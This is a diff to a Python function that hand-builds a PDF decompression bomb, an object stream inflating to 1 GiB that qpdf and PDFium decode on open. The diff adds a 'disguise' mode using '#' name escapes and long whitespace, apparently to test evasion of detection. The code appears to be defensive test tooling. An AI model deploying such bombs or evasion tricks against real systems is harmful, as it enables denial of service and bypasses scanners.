@@ -321,10 +321,11 @@ def form_bomb_pdf(scan: bytes) -> bytes:
     return _save_raw(pdf)
 
 
-def object_stream_bomb_pdf() -> bytes:
+def object_stream_bomb_pdf(disguise: bytes = b"") -> bytes:
     """A one-page PDF whose catalog, page tree and page sit in an object stream padded to
     1 GiB (2 KB of file): qpdf and PDFium decode it whole as they open the file. Written by
-    hand: a PDF library would not write such a stream."""
+    hand: a PDF library would not write such a stream. ``disguise`` goes at the start of the
+    stream's dictionary; ``#`` escapes and long white space are also used when it is given."""
     objects = [
         b"<< /Type /Catalog /Pages 3 0 R >>",
         b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
@@ -338,10 +339,12 @@ def object_stream_bomb_pdf() -> bytes:
     data = bomb(prefix=index + body, fill=b" ")
     out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
     stream_at = len(out)
+    kind, space = (b"/Obj#53tm", b" " * 100_000) if disguise else (b"/ObjStm", b" ")
     out += (
-        b"1 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter [/FlateDecode /FlateDecode] "
-        b"/Length %d >>\nstream\n" % (len(index), len(data))
-    )
+        b"1 0 obj" + space + b"<< " + disguise + b" /Type" + space + kind
+        + b" /N 3 /First %d /Filter [/Fl#61teDecode /FlateDecode] /Length %d >>\nstream\n"
+        % (len(index), len(data))
+    )  # fmt: skip
     out += data + b"\nendstream\nendobj\n"
     xref_at = len(out)
     rows = [(0, 0, 65535), (1, stream_at, 0), (2, 1, 0), (2, 1, 1), (2, 1, 2), (1, xref_at, 0)]
